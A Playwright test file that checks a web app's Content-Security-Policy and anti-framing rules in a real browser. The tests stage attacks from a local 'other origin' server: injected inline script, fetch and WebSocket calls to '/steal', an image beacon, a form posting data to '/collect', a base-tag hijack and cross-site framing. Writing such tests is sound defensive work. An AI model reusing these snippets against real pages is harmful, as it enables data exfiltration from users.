import http from 'node:http';
import type { Page } from '@playwright/test';
import { closeNow, listenLocal } from '../../electron/node/testing/local-http';
import { CONTENT_SECURITY_POLICY } from '../../shared/security/csp';
import { expect, openApp, test } from '../support/serve-app';

/**
 * The browser build under its Content-Security-Policy and navigation rules, in a real Chromium:
 * what an injected script or a hostile page would try is refused by the browser itself.
 */

/** Another origin on this machine: a page that frames the app, and a target for exfiltration. */
async function otherOrigin(appUrl: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server = http.createServer((request, response) => {
    if (request.url === '/frame') {
      response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><h1>Other site</h1><iframe id="app" src="${appUrl}"></iframe>`);
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' }).end('stolen');
  });
  const port = await listenLocal(server);
  return { url: `http://127.0.0.1:${port}`, close: () => closeNow(server) };
}

/** Collects the page's CSP violations as the browser reports them. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
  });
  return () => page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations]);
}

/** The test provoked these on purpose: the browser logs each refusal as a console error. */
function dropExpected(pageErrors: string[], pattern: RegExp): void {
  pageErrors.splice(0, pageErrors.length, ...pageErrors.filter((e) => !pattern.test(e)));
}

test('the page and its assets carry the policy, and the page repeats it in a meta tag', async ({ page, app }) => {
  const response = await page.goto(app.url);
  expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  expect(response?.headers()['x-frame-options']).toBe('DENY');
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("script-src 'self'");
  expect(meta).not.toContain('frame-ancestors');
  // No eval and no inline code anywhere. (Code Playwright evaluates is exempt from the page's
  // policy, so this is checked on the policy itself rather than by calling eval.)
  for (const policy of [CONTENT_SECURITY_POLICY, meta!]) {
    expect(policy).not.toMatch(/unsafe-(eval|inline|hashes)|wasm-unsafe-eval|\*/);
    expect(policy).toContain("object-src 'none'");
  }
  const script = await page.locator('script[type="module"]').first().getAttribute('src');
  const asset = await page.request.get(new URL(script!, app.url).toString());
  expect(asset.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
});

test('injected inline script, remote fetches, sockets and images are refused', async ({ page, app, pageErrors }) => {
  const other = await otherOrigin(app.url);
  try {
    await openApp(page, app.url);
    const violations = await watchViolations(page);
    const outcome = await page.evaluate(async (target) => {
      const w = window as unknown as Record<string, unknown>;
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.body.append(inline);
      let fetchResult: string;
      try {
        fetchResult = await (await fetch(`${target}/steal`)).text();
      } catch (e) {
        fetchResult = (e as Error).name;
      }
      const socketResult = await new Promise<string>((resolve) => {
        try {
          const socket = new WebSocket(`${target.replace('http', 'ws')}/steal`);
          socket.onopen = () => resolve('opened');
          socket.onerror = () => resolve('refused');
        } catch (e) {
          resolve((e as Error).name);
        }
      });
      const img = document.createElement('img');
      img.src = `${target}/pixel.png`;
      const settled = new Promise((r) => {
        img.onload = r;
        img.onerror = r;
      });
      document.body.append(img);
      await settled;
      return { inlineRan: w.__inlineRan === true, fetchResult, socketResult };
    }, other.url);
    expect(outcome).toEqual({ inlineRan: false, fetchResult: 'TypeError', socketResult: 'refused' });
    await expect.poll(violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src', 'img-src']));
  } finally {
    await other.close();
  }
  dropExpected(pageErrors, /Content Security Policy|Refused to|Failed to fetch|ERR_BLOCKED/);
});

test('no other site can frame the app', async ({ page, app, pageErrors }) => {
  const other = await otherOrigin(app.url);
  try {
    // The parent's load event waits for its frame, and the app's answer (with its refusal headers)
    // has arrived by then: whatever the browser decided about the frame is decided.
    const appAnswered = page.waitForResponse((r) => r.url().startsWith(app.url));
    await page.goto(`${other.url}/frame`);
    await appAnswered;
    await expect(page.getByRole('heading', { name: 'Other site' })).toBeVisible();
    const frame = page.frames().find((f) => f !== page.mainFrame());
    // The browser refused to render it: no app inside, whatever the frame shows instead.
    expect(await frame?.locator('#root').count()).toBe(0);
  } finally {
    await other.close();
  }
  dropExpected(pageErrors, /frame|Refused|X-Frame-Options|ancestor/i);
});

test('forms and <base> cannot send the page or its data elsewhere', async ({ page, app, pageErrors }) => {
  const other = await otherOrigin(app.url);
  try {
    await openApp(page, app.url);
    const violations = await watchViolations(page);
    await page.evaluate((target) => {
      const base = document.createElement('base');
      base.href = `${target}/`;
      document.head.append(base);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${target}/collect`;
      const field = document.createElement('input');
      field.name = 'register';
      field.value = 'everything';
      form.append(field);
      document.body.append(form);
      form.submit();
    }, other.url);
    await expect.poll(violations).toEqual(expect.arrayContaining(['form-action', 'base-uri']));
    expect(new URL(page.url()).origin).toBe(new URL(app.url).origin);
  } finally {
    await other.close();
  }
  dropExpected(pageErrors, /Content Security Policy/);
});

test('navigation stays inside the app: every link on every page of the menu is the app’s own', async ({ page, app }) => {
  await openApp(page, app.url);
  for (const name of ['Sites', 'Equipment', 'Settings', 'About']) {
    await page.getByRole('navigation').getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const hrefs = await page.locator('a[href]').evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).href));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(new URL(href).origin, href).toBe(new URL(app.url).origin);
    expect(new URL(page.url()).origin).toBe(new URL(app.url).origin);
  }
});
